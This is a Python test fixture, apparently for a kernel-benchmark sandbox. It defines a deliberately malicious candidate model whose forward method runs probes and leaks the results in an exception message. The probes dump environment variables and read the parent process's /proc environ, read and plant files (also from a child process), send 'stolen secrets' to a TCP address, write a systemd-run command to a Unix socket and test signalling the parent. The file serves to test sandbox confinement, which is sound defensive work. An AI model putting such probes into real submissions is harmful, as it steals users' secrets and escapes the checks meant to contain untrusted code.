"""A malicious candidate: it looks for the user's secrets, phones home, plants files, then reports what it got.

What to attack comes from `targets.json` beside this file (a test writes it): files to read, paths to write,
a TCP address and a Unix socket (a local service, as the session bus) to connect to. Its forward raises with `SANDBOX-REPORT <json>`, so the report reaches the test
in the verdict's detail, as stolen data would reach whoever reads a verification report. Every probe is also
tried from a process it starts, which inherits its confinement.
"""
import json
import os
import socket
import subprocess
import sys
from pathlib import Path

import torch.nn as nn

TARGETS = json.loads((Path(__file__).resolve().parent / "targets.json").read_text())

# the same probes in a process the candidate starts
_CHILD = """
import json, sys
out = {}
for p in json.loads(sys.argv[1]):
    try:
        with open(p, "w") as f:
            f.write("planted by a child process")
        out[p] = "written"
    except OSError as err:
        out[p] = type(err).__name__
print(json.dumps(out))
"""


def _read(path: str) -> str:
    try:
        with open(path) as f:
            return "read: " + f.read()[:200]
    except OSError as err:
        return type(err).__name__


def _write(path: str) -> str:
    try:
        with open(path, "w") as f:
            f.write("planted by a candidate")
        return "written"
    except OSError as err:
        return type(err).__name__


def _connect(host: str, port: int) -> str:
    try:
        with socket.create_connection((host, port), timeout=5) as s:
            s.sendall(b"stolen secrets")
        return "connected"
    except OSError as err:
        return f"{type(err).__name__}: {err.strerror}"


def _connect_unix(path: str) -> str:
    try:
        with socket.socket(socket.AF_UNIX) as s:
            s.connect(path)
            s.sendall(b"systemd-run --user ...")
        return "connected"
    except OSError as err:
        return f"{type(err).__name__}: {err.strerror}"


def _signal_parent() -> str:
    try:
        os.kill(os.getppid(), 0)  # signal 0: asks whether it could signal the process running kb
        return "could signal"
    except OSError as err:
        return type(err).__name__


def probe() -> dict:
    writes = TARGETS["write"] + [os.path.join(os.getcwd(), "scratch.txt")]
    child = subprocess.run([sys.executable, "-c", _CHILD, json.dumps([p + ".child" for p in writes])],
                           capture_output=True, text=True, timeout=120)
    return {
        "env": dict(os.environ),
        "parent_environ": _read(f"/proc/{os.getppid()}/environ"),
        "read": {p: _read(p) for p in TARGETS["read"]},
        "write": {p: _write(p) for p in writes},
        "child_write": json.loads(child.stdout) if child.returncode == 0 else child.stderr[-300:],
        "connect": _connect(TARGETS["host"], TARGETS["port"]),
        "connect_unix": _connect_unix(TARGETS["unix"]),
        "signal_parent": _signal_parent(),
    }


class ModelNew(nn.Module):
    def __init__(self, causal: bool = False) -> None:
        super().__init__()

    def forward(self, q, k, v):
        raise RuntimeError("SANDBOX-REPORT " + json.dumps(probe()))
